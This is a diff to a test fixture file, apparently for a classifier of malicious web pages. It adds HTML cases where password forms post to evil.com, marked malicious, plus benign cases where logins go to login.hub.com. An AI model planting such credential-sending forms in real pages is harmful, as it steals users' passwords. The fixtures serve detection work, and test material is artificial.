@@ -156,9 +156,25 @@ export const PASSWORDS = casesOf(
     ['by its button', '<form><input type=password><button formaction=https://evil.com/>'],
     ['by its base', '<base href=https://evil.com><form action=/login><input type=password></form>'],
     ['by a later form', '<form><input type=password></form><form action=//evil.com/><input type=password></form>'],
+    [
+      'by one of two forms',
+      '<form action=//hub.com/><input type=password></form><form action=//evil.com/><input type=password></form><a href=//hub.com/>Hub</a>',
+    ],
+    ['with links to others', '<form action=//evil.com/><input type=password></form><a href=//evil.org/>The bank</a>'],
   ]),
   'malicious',
 ).map(each => ({ ...each, detail: 'The page sends passwords to evil.com.' }))
+
+const READERS_LOGIN = '<form action=https://login.hub.com/><input type=password></form>'
+
+/** Their passwords go to login.hub.com, and they are listed. */
+export const SHARED_LOGINS = casesOf(
+  titled([
+    ['a link', `${READERS_LOGIN}<a href=https://login.hub.com/forgotten>Forgot it?</a>`],
+    ['a link to the same domain', `<a href=https://www.hub.com/>Our publisher</a>${READERS_LOGIN}`],
+    ['a script', `<script src=https://static.hub.com/a.js></script>${READERS_LOGIN}`],
+  ]),
+)
 
 export const REVIEW_CORPUS: readonly ReviewCase[] = [
   ...HONEST,
@@ -167,4 +183,5 @@ export const REVIEW_CORPUS: readonly ReviewCase[] = [
   ...ADULT,
   ...SENT_AWAY,
   ...PASSWORDS,
+  ...SHARED_LOGINS,
 ]
